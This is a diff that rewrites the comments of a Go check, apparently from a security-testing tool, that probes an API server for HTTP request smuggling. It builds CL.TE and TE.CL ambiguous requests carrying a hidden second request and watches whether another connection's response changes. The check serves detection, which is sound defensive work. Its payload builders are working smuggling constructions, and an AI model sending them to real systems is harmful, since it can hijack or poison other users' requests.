@@ -21,8 +21,8 @@ var smuggling = Check{
 	run:     runSmuggling,
 }
 
-// ambiguous is a request whose end two servers may read differently: what of rest
-// is outside of it by one reading becomes the next request.
+// ambiguous is a request whose end two servers may see in different places. If one sees
+// it before rest, then rest becomes the next request.
 type ambiguous struct {
 	kind string
 	wire func(host, path, rest string) string
@@ -32,8 +32,8 @@ func head(host, path string, headers ...string) string {
 	return "POST " + path + " HTTP/1.1\r\nHost: " + host + "\r\nContent-Type: application/json\r\n" + strings.Join(headers, "\r\n") + "\r\n\r\n"
 }
 
-// clte has the length tell of all, and the chunks of nothing: who goes by chunks
-// finds rest to be another request.
+// clte makes a request whose Content-Length covers all of it and whose chunks end
+// before rest: a server that goes by chunks takes rest for another request.
 func clte(te ...string) func(host, path, rest string) string {
 	return func(host, path, rest string) string {
 		body := "0\r\n\r\n" + rest
@@ -41,8 +41,9 @@ func clte(te ...string) func(host, path, rest string) string {
 	}
 }
 
-// tecl has the chunks tell of all, and the length of the size of the first: who
-// goes by length finds rest to be another request.
+// tecl makes a request whose chunks cover all of it and whose Content-Length covers
+// only the size of the first chunk: a server that goes by length takes rest for another
+// request.
 func tecl(te ...string) func(host, path, rest string) string {
 	return func(host, path, rest string) string {
 		size := fmt.Sprintf("%x\r\n", len(rest))
@@ -126,16 +127,16 @@ func runSmuggling(ctx context.Context, t *trial) end {
 	return t.ended("%s ambiguous requests were answered or refused, and none changed the answer to a later request", number(int64(answered)))
 }
 
-// smuggle sends an ambiguous request over one connection, and plain ones over
-// others; took is whether one of those got the answer of the smuggled path.
+// smuggle sends an ambiguous request over one connection, and plain ones over others;
+// took is whether one of those got the answer of the smuggled path.
 func (t *trial) smuggle(ctx context.Context, a ambiguous, victim request, usual answer) (sent, came string, took, answered bool) {
 	marked := "/" + t.random.letters(16)
 	auth := ""
 	if t.target.Key != "" {
 		auth = "Authorization: Bearer " + t.target.Key + "\r\n"
 	}
-	// The rest is the beginning of a request: the victim's own first line ends in its
-	// last header, and the victim's Host is its own.
+	// rest is the beginning of a request. The victim's first line completes its last
+	// header, and the victim's Host header becomes its own.
 	rest := "GET " + marked + " HTTP/1.1\r\n" + auth + "X-Rest: "
 	sent = strings.Replace(a.wire(t.host, "/v1/chat/completions", rest), "Content-Type:", auth+"Content-Type:", 1)
 	l, err := t.dial(ctx, t.next(), "http/1.1")
@@ -154,8 +155,8 @@ func (t *trial) smuggle(ctx context.Context, a ambiguous, victim request, usual 
 		if got.err != nil || got.limited() || got.status == usual.status {
 			continue
 		}
-		// Another answer alone may be chance: it has to be that of a path that is not
-		// there, and not be there a moment later.
+		// One different answer may be chance. It has to be the answer of a missing
+		// path, and a moment later the usual answer has to be back.
 		if after := t.ask(ctx, victim); after.status == usual.status {
 			return sent, "a plain GET /v1/models on another connection: " + got.String(), true, answered
 		}
